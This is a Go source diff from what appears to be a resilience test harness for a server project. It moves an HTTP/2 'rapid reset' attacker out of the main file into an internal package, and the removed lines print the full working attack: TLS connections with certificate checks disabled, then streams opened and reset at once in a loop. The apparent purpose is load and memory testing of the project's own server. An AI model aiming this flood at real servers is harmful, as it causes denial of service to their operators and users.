@@ -11,7 +11,6 @@ package main
 
 import (
 	"bufio"
-	"bytes"
 	"context"
 	"crypto/ecdsa"
 	"crypto/elliptic"
@@ -33,11 +32,9 @@ import (
 	"slices"
 	"strings"
 	"sync"
-	"sync/atomic"
 	"time"
 
-	"golang.org/x/net/http2"
-	"golang.org/x/net/http2/hpack"
+	"github.com/esbridge/esbridge/internal/h2reset"
 )
 
 // resetOptions are scenario X's flags.
@@ -158,10 +155,10 @@ func (o options) resetPhase(pid int, addr, target string) (resetPhase, error) {
 	ctx, cancel := context.WithTimeout(context.Background(), o.reset.duration)
 	defer cancel()
 	var wg sync.WaitGroup
-	var streams, conns atomic.Int64
+	var counts h2reset.Counts
 	if target != "" {
 		for range o.reset.attackers {
-			wg.Go(func() { rapidReset(ctx, addr, target, &streams, &conns) })
+			wg.Go(func() { h2reset.Attack(ctx, addr, target, &counts) })
 		}
 	}
 	var rss []int64
@@ -181,7 +178,7 @@ func (o options) resetPhase(pid int, addr, target string) (resetPhase, error) {
 	})
 	trips, failed := normalClient(ctx, addr)
 	wg.Wait()
-	p.Streams, p.Conns = streams.Load(), conns.Load()
+	p.Streams, p.Conns = counts.Streams.Load(), counts.Conns.Load()
 	if len(rss) > 0 {
 		p.PeakRSS, p.EndRSS = slices.Max(rss), rss[len(rss)-1]
 	}
@@ -220,82 +217,6 @@ func normalClient(ctx context.Context, addr string) (trips []time.Duration, fail
 			continue
 		}
 		trips = append(trips, time.Since(start))
-	}
-}
-
-// rapidReset opens HTTP/2 connections to addr, one at a time, and on each
-// opens streams for path and resets them at once, until ctx ends or the
-// server closes the connection (then it opens another).
-func rapidReset(ctx context.Context, addr, path string, streams, conns *atomic.Int64) {
-	for ctx.Err() == nil {
-		conn, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
-		if err != nil {
-			time.Sleep(10 * time.Millisecond)
-			continue
-		}
-		conns.Add(1)
-		stop := context.AfterFunc(ctx, func() { conn.Close() })
-		resetOn(conn, addr, path, streams)
-		stop()
-		conn.Close()
-	}
-}
-
-// resetOn opens and resets streams on conn until it fails.
-func resetOn(conn net.Conn, addr, path string, streams *atomic.Int64) {
-	var mu sync.Mutex // the framer's writes
-	bw := bufio.NewWriterSize(conn, 64<<10)
-	fr := http2.NewFramer(bw, conn)
-	if _, err := bw.WriteString(http2.ClientPreface); err != nil {
-		return
-	}
-	if fr.WriteSettings() != nil || bw.Flush() != nil {
-		return
-	}
-	go func() { // answers the server's settings and pings, drops the rest
-		for {
-			f, err := fr.ReadFrame()
-			if err != nil {
-				conn.Close()
-				return
-			}
-			mu.Lock()
-			switch f := f.(type) {
-			case *http2.SettingsFrame:
-				if !f.IsAck() {
-					fr.WriteSettingsAck()
-					bw.Flush()
-				}
-			case *http2.PingFrame:
-				if !f.IsAck() {
-					fr.WritePing(true, f.Data)
-					bw.Flush()
-				}
-			}
-			mu.Unlock()
-		}
-	}()
-	var block bytes.Buffer
-	enc := hpack.NewEncoder(&block)
-	for id := uint32(1); id < 1<<31; id += 2 {
-		block.Reset()
-		enc.WriteField(hpack.HeaderField{Name: ":method", Value: "GET"})
-		enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: "https"})
-		enc.WriteField(hpack.HeaderField{Name: ":authority", Value: addr})
-		enc.WriteField(hpack.HeaderField{Name: ":path", Value: path})
-		mu.Lock()
-		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
-		if err == nil {
-			err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
-		}
-		if err == nil && id%64 == 63 {
-			err = bw.Flush()
-		}
-		mu.Unlock()
-		if err != nil {
-			return
-		}
-		streams.Add(1)
 	}
 }
 
